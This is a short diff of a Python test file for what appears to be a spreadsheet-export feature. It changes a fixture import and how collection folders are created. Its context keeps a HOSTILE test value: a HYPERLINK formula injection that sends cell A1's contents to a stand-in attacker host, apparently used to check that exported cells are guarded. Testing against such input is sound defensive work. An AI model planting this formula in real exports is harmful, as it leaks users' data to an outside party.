@@ -24,7 +24,7 @@ from atd.exports import DownloadFolder, downloads, write_archive
 from atd.exports.cell import guarded, quoted, rows_written, unguarded, written
 from atd.localising.text import State
 from atd.pages import Library
-from conftest import ROOT, SMALL, TRILINGUAL, copy_repository, library
+from conftest import COLLECTIONS, ROOT, SMALL, TRILINGUAL, copy_repository, library
 
 HOSTILE = {
     "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
@@ -55,8 +55,8 @@ def shown(tmp_path_factory: pytest.TempPathFactory) -> Library:
     )
     with (practices / "zm-release-all.yaml").open("a", encoding="utf-8") as file:
         file.write("redirect_from: [zm-former-name]\n")
-    for collection in ("resources", "exchanges"):
-        (root / collection).mkdir()
+    for collection in set(COLLECTIONS) - {"practices"}:
+        (root / collection).mkdir(exist_ok=True)
         files = sorted((ROOT / collection).glob("*.yaml"))
         placed = [file for file in files if "\ncountries: [" in file.read_text(encoding="utf-8")]
         for file in {*files[:12], *placed[:2]}:
